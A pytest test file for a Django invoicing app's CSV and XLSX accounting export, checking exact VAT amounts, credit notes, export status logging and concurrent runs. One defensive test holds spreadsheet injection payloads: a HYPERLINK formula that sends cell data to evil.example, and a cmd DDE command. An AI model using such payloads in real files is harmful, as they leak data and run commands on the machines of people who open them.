import csv
import io
import re
import threading
import zipfile
from collections import defaultdict
from datetime import date
from decimal import Decimal

import pytest
from django.core.exceptions import ValidationError
from django.db import connection
from python_calamine import CalamineWorkbook

from kunde.activity.models import ActivityEntry
from kunde.invoices import services
from kunde.invoices.accounting_export import (
    COLUMNS,
    AccountingExportError,
    accounting_export_run,
    document_rows,
    export_status_change,
)
from kunde.invoices.models import AccountingExport, ExportStatusChange, Invoice, InvoiceLine

ISSUED_ON = date(2026, 10, 31)
HEADER = [
    "customer_number",
    "customer_name",
    "customer_org_number",
    "document_type",
    "invoice_number",
    "credited_invoice_number",
    "issue_date",
    "due_date",
    "kid",
    "currency",
    "line_number",
    "description",
    "account",
    "vat_code",
    "vat_rate",
    "net_amount",
    "vat_amount",
    "gross_amount",
    "project_number",
    "your_reference",
    "order_reference",
]


@pytest.fixture(autouse=True)
def media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"


def issue(draft, actor):
    return services.invoice_issue(actor=actor, invoice=draft, issue_date=ISSUED_ON)


def issue_lines(customer, actor, lines, **options):
    draft = services.invoice_draft_create(actor=actor, customer=customer, lines=lines, **options)
    return issue(draft, actor)


def read_csv(run: AccountingExport) -> list[dict]:
    data = run.csv_file.open("rb").read()
    assert data.startswith(b"\xef\xbb\xbf")  # the BOM: Excel then reads æøå as UTF-8
    reader = csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";")
    header, *rows = list(reader)
    assert header == HEADER
    return [dict(zip(header, row, strict=True)) for row in rows]


def kroner(text: str) -> Decimal:
    return Decimal(text.replace(",", "."))


def sums_per_document(rows: list[dict]) -> dict[int, tuple[Decimal, Decimal, Decimal]]:
    sums = defaultdict(lambda: [Decimal(0)] * 3)
    for row in rows:
        for i, key in enumerate(("net_amount", "vat_amount", "gross_amount")):
            sums[int(row["invoice_number"])][i] += kroner(row[key])
    return {number: tuple(values) for number, values in sums.items()}


def test_the_csv_has_one_row_per_line_with_exact_amounts_and_vat_codes(draft, finance, customer):
    invoice = issue(draft, finance)

    run = accounting_export_run(actor=finance)

    rows = read_csv(run)
    common = {
        "customer_number": str(customer.number),
        "customer_name": "Fjellheim Konsult AS",
        "customer_org_number": "923609016",
        "document_type": "invoice",
        "invoice_number": str(invoice.number),
        "credited_invoice_number": "",
        "issue_date": "2026-10-31",
        "due_date": "2026-11-14",
        "kid": invoice.kid,
        "currency": "NOK",
        "project_number": "",
        "your_reference": "",
        "order_reference": "",
    }
    assert invoice.kid
    assert rows == [
        {
            **common,
            "line_number": "1",
            "description": "Rådgivning",
            "account": "3000",
            "vat_code": "3",
            "vat_rate": "25",
            "net_amount": "12500,00",
            "vat_amount": "3125,00",
            "gross_amount": "15625,00",
        },
        {
            **common,
            "line_number": "2",
            "description": "Reise",
            "account": "3000",
            "vat_code": "33",
            "vat_rate": "12",
            "net_amount": "500,00",
            "vat_amount": "60,00",
            "gross_amount": "560,00",
        },
    ]


def test_credit_notes_are_negative_and_every_document_adds_up_to_its_totals(
    draft, finance, customer, project
):
    invoice = issue(draft, finance)
    credit = issue(services.credit_note_create(actor=finance, invoice=invoice), finance)
    mixed = issue_lines(
        customer,
        finance,
        [
            {"description": "Mat", "quantity": "3", "unit_price_ore": 3333, "vat_rate": 15},
            {
                "description": "Kurs",
                "quantity": 1,
                "unit_price_ore": 10000,
                "vat_category": "E",
                "vat_rate": 0,
            },
            {
                "description": "Utland",
                "quantity": 1,
                "unit_price_ore": 20000,
                "vat_category": "AE",
                "vat_rate": 0,
            },
            {
                "description": "Utlegg",
                "quantity": 1,
                "unit_price_ore": 700,
                "vat_category": "O",
                "vat_rate": 0,
            },
            {
                "description": "Null",
                "quantity": 1,
                "unit_price_ore": 100,
                "vat_category": "Z",
                "vat_rate": 0,
            },
        ],
        project=project,
    )

    rows = read_csv(accounting_export_run(actor=finance))

    assert [(r["invoice_number"], r["document_type"]) for r in rows] == [
        (str(invoice.number), "invoice"),
        (str(invoice.number), "invoice"),
        (str(credit.number), "credit_note"),
        (str(credit.number), "credit_note"),
        *[(str(mixed.number), "invoice")] * 5,
    ]
    credit_rows = [r for r in rows if r["document_type"] == "credit_note"]
    assert [(r["net_amount"], r["vat_amount"], r["gross_amount"]) for r in credit_rows] == [
        ("-12500,00", "-3125,00", "-15625,00"),
        ("-500,00", "-60,00", "-560,00"),
    ]
    assert {r["credited_invoice_number"] for r in credit_rows} == {str(invoice.number)}
    mixed_rows = [r for r in rows if r["invoice_number"] == str(mixed.number)]
    assert [(r["vat_code"], r["account"], r["vat_rate"]) for r in mixed_rows] == [
        ("31", "3000", "15"),
        ("5", "3100", "0"),
        ("52", "3100", "0"),
        ("6", "3200", "0"),
        ("5", "3100", "0"),
    ]
    assert {r["project_number"] for r in mixed_rows} == {"1001"}
    for document in (invoice, credit, mixed):
        document.refresh_from_db()
        expected = tuple(
            Decimal(ore) / 100 for ore in (document.net_ore, document.vat_ore, document.total_ore)
        )
        assert sums_per_document(rows)[document.number] == expected


def test_line_vat_adds_up_to_the_document_vat_with_the_remainder_on_the_largest_line(
    company, customer, finance
):
    # 3 + 3 + 3 + 6 øre at 25 %: VAT on the sum is 3.75 -> 4 øre, line by line 1 + 1 + 1 + 2.
    lines = [
        {"description": f"Linje {i}", "quantity": 1, "unit_price_ore": price}
        for i, price in enumerate([3, 3, 3, 6])
    ]
    invoice = issue_lines(customer, finance, lines)
    assert invoice.vat_ore == 4

    rows = read_csv(accounting_export_run(actor=finance))

    assert [r["vat_amount"] for r in rows] == ["0,01", "0,01", "0,01", "0,01"]
    assert [r["gross_amount"] for r in rows] == ["0,04", "0,04", "0,04", "0,07"]


def test_a_document_whose_lines_do_not_add_up_is_refused(company, customer, finance):
    document = Invoice(customer=customer, number=7, net_ore=100, vat_ore=26, total_ore=126)
    line = InvoiceLine(pk=1, description="X", net_ore=100, vat_category="S", vat_rate=25)

    with pytest.raises(AccountingExportError, match="VAT 25 øre"):
        document_rows(document, [line])


def test_the_xlsx_has_the_same_rows(draft, finance):
    issue(draft, finance)

    run = accounting_export_run(actor=finance)

    sheet = CalamineWorkbook.from_filelike(run.xlsx_file.open("rb")).get_sheet_by_index(0)
    cells = sheet.to_python()
    assert cells[0][0] == f"Accounting export {run.pk}"
    header_at = cells.index([column.label for column in COLUMNS])
    body = cells[header_at + 1 :]
    rows = read_csv(run)
    assert len(body) == len(rows) == 2
    for values, row in zip(body, rows, strict=True):
        for column, value in zip(COLUMNS, values, strict=True):
            text = row[column.key]
            if column.kind == "money":
                assert Decimal(str(value)) == kroner(text)
            elif column.kind == "date":
                assert value.isoformat() == text
            elif column.kind == "int":
                assert ("" if value == "" else str(int(value))) == text
            else:
                assert value == text


def test_exported_documents_are_marked_transferred_with_their_run(draft, finance, customer):
    invoice = issue(draft, finance)

    run = accounting_export_run(actor=finance)

    invoice.refresh_from_db()
    assert (invoice.export_status, invoice.export_run) == ("transferred", run)
    assert invoice.exported_at is not None
    assert (run.created_by, run.document_count) == (finance, 1)
    assert run.csv_file.name.endswith(f"accounting-export-{run.pk:05d}.csv")
    assert run.xlsx_file.name.endswith(f"accounting-export-{run.pk:05d}.xlsx")
    entry = ActivityEntry.objects.get(customer=customer, action="invoice.exported")
    assert entry.text == f"1 document(s) transferred to accounting (export {run.pk})"
    assert entry.shown_changes == {
        f"export_status_{invoice.pk}": {
            "label": str(invoice),
            "old": "To transfer",
            "new": "Transferred",
        }
    }


def test_a_second_run_exports_nothing_and_writes_no_file(draft, finance, tmp_path):
    issue(draft, finance)
    accounting_export_run(actor=finance)
    files = sorted((tmp_path / "media").rglob("accounting-export-*"))

    assert accounting_export_run(actor=finance) is None

    assert AccountingExport.objects.count() == 1
    assert sorted((tmp_path / "media").rglob("accounting-export-*")) == files


def test_nothing_to_transfer_returns_none(company, finance):
    assert accounting_export_run(actor=finance) is None
    assert not AccountingExport.objects.exists()


def test_do_not_transfer_documents_and_drafts_are_never_exported(company, customer, finance):
    line = [{"description": "X", "quantity": 1, "unit_price_ore": 10000}]
    kept_back = issue_lines(customer, finance, line)
    exported = issue_lines(customer, finance, line)
    draft = services.invoice_draft_create(actor=finance, customer=customer, lines=line)
    export_status_change(
        actor=finance, customer=customer, document_ids=[kept_back.pk], status="do_not_transfer"
    )

    run = accounting_export_run(actor=finance)

    assert {r["invoice_number"] for r in read_csv(run)} == {str(exported.number)}
    assert list(run.documents.all()) == [exported]
    statuses = dict(Invoice.objects.values_list("pk", "export_status"))
    assert statuses[kept_back.pk] == "do_not_transfer"
    assert statuses[draft.pk] == "to_transfer"  # a draft keeps its default until issued
    assert accounting_export_run(actor=finance) is None


def test_status_changes_are_logged_and_a_transferred_document_can_be_exported_again(
    draft, finance, customer
):
    invoice = issue(draft, finance)
    first = accounting_export_run(actor=finance)

    changed = export_status_change(
        actor=finance, customer=customer, document_ids=[invoice.pk], status="to_transfer"
    )

    assert changed == [invoice]
    change = ExportStatusChange.objects.get()
    assert (change.invoice, change.old_status, change.new_status, change.actor) == (
        invoice,
        "transferred",
        "to_transfer",
        finance,
    )
    entry = ActivityEntry.objects.get(action="invoice.export_status_changed")
    assert entry.customer == customer
    assert entry.text == "Export status set to “To transfer” on 1 document(s)"
    assert entry.shown_changes[f"export_status_{invoice.pk}"] == {
        "label": str(invoice),
        "old": "Transferred",
        "new": "To transfer",
    }
    second = accounting_export_run(actor=finance)
    invoice.refresh_from_db()
    assert second != first and invoice.export_run == second


def test_setting_the_status_a_document_already_has_changes_and_logs_nothing(
    draft, finance, customer
):
    invoice = issue(draft, finance)

    changed = export_status_change(
        actor=finance, customer=customer, document_ids=[invoice.pk], status="to_transfer"
    )

    assert changed == []
    assert not ExportStatusChange.objects.exists()
    assert not ActivityEntry.objects.filter(action="invoice.export_status_changed").exists()


@pytest.mark.parametrize(
    ("case", "field", "message"),
    [
        ("draft", "documents", "a draft cannot be chosen"),
        ("unknown", "documents", "not this customer's invoices or credit notes"),
        ("other customer", "documents", "not this customer's invoices or credit notes"),
        ("bad status", "status", "“sent” is not an export status."),
        ("none", "documents", "Choose at least one document."),
    ],
)
def test_bad_status_changes_are_refused_and_change_nothing(
    draft, finance, manager, customer, case, field, message
):
    from kunde.customers.services import customer_create

    invoice = issue(
        services.invoice_draft_create(
            actor=finance,
            customer=customer,
            lines=[{"description": "X", "quantity": 1, "unit_price_ore": 100}],
        ),
        finance,
    )
    other = customer_create(actor=manager, data={"name": "Annen Kunde AS"})
    foreign = issue_lines(
        other, finance, [{"description": "Y", "quantity": 1, "unit_price_ore": 1}]
    )
    ids = {
        "draft": [invoice.pk, draft.pk],
        "unknown": [invoice.pk, 999999],
        "other customer": [invoice.pk, foreign.pk],
        "bad status": [invoice.pk],
        "none": [],
    }[case]
    status = "sent" if case == "bad status" else "do_not_transfer"

    with pytest.raises(ValidationError) as error:
        export_status_change(actor=finance, customer=customer, document_ids=ids, status=status)

    assert message in " ".join(error.value.message_dict[field])
    assert set(Invoice.objects.values_list("export_status", flat=True)) == {"to_transfer"}
    assert not ExportStatusChange.objects.exists()


@pytest.mark.django_db(transaction=True)
def test_two_runs_at_once_export_every_document_once(company, customer, finance):
    documents = [
        issue_lines(customer, finance, [{"description": "X", "quantity": 1, "unit_price_ore": n}])
        for n in range(100, 106)
    ]
    start = threading.Barrier(2)
    results, errors = [], []

    def run():
        try:
            start.wait()
            results.append(accounting_export_run(actor=finance))
        except Exception as exc:  # noqa: BLE001 - collected and asserted below
            errors.append(exc)
        finally:
            connection.close()

    threads = [threading.Thread(target=run) for _ in range(2)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()

    assert errors == []
    runs = [r for r in results if r is not None]
    assert len(results) == 2 and len(runs) == 1
    assert AccountingExport.objects.get().document_count == len(documents)
    assert set(Invoice.objects.values_list("export_run", flat=True)) == {runs[0].pk}
    assert len(read_csv(runs[0])) == len(documents)


def test_the_files_carry_formula_like_text_as_inert_text(company, customer, finance):
    formula = '=HYPERLINK("http://evil.example/?d="&A1,"Klikk")'
    command = "-2+3+cmd|' /C calc'!A0"
    draft = services.invoice_draft_create(
        actor=finance,
        customer=customer,
        lines=[{"description": formula, "quantity": "1", "unit_price_ore": 10_000}],
    )
    Invoice.objects.filter(pk=draft.pk).update(your_reference=command, order_reference="@SUM(1+1)")
    draft.refresh_from_db()
    issue(draft, finance)

    run = accounting_export_run(actor=finance)

    (row,) = read_csv(run)
    assert row["description"] == "'" + formula
    assert row["your_reference"] == "'" + command
    assert row["order_reference"] == "'@SUM(1+1)"
    with zipfile.ZipFile(run.xlsx_file.open("rb")) as archive:
        assert "<f>" not in archive.read("xl/worksheets/sheet1.xml").decode()
    sheet = CalamineWorkbook.from_filelike(run.xlsx_file.open("rb")).get_sheet_by_index(0)
    assert formula in sheet.to_python()[-1]


def test_every_amount_is_exact_in_both_files_and_credit_notes_stay_negative_numbers(
    company, customer, finance
):
    invoice = issue_lines(
        customer,
        finance,
        [{"description": "Rådgivning", "quantity": "1", "unit_price_ore": 7_239_401}],
    )
    issue(services.credit_note_create(actor=finance, invoice=invoice), finance)

    run = accounting_export_run(actor=finance)

    amounts = [(r["net_amount"], r["vat_amount"], r["gross_amount"]) for r in read_csv(run)]
    assert amounts == [
        ("72394,01", "18098,50", "90492,51"),
        ("-72394,01", "-18098,50", "-90492,51"),
    ]
    with zipfile.ZipFile(run.xlsx_file.open("rb")) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    # Net, VAT and gross are the columns P, Q and R; xlsxwriter once wrote 90492.50999999999.
    written = re.findall(r'<c r="[PQR]\d+"[^>]*><v>([^<]*)</v>', xml)
    assert written == ["72394.01", "18098.50", "90492.51", "-72394.01", "-18098.50", "-90492.51"]
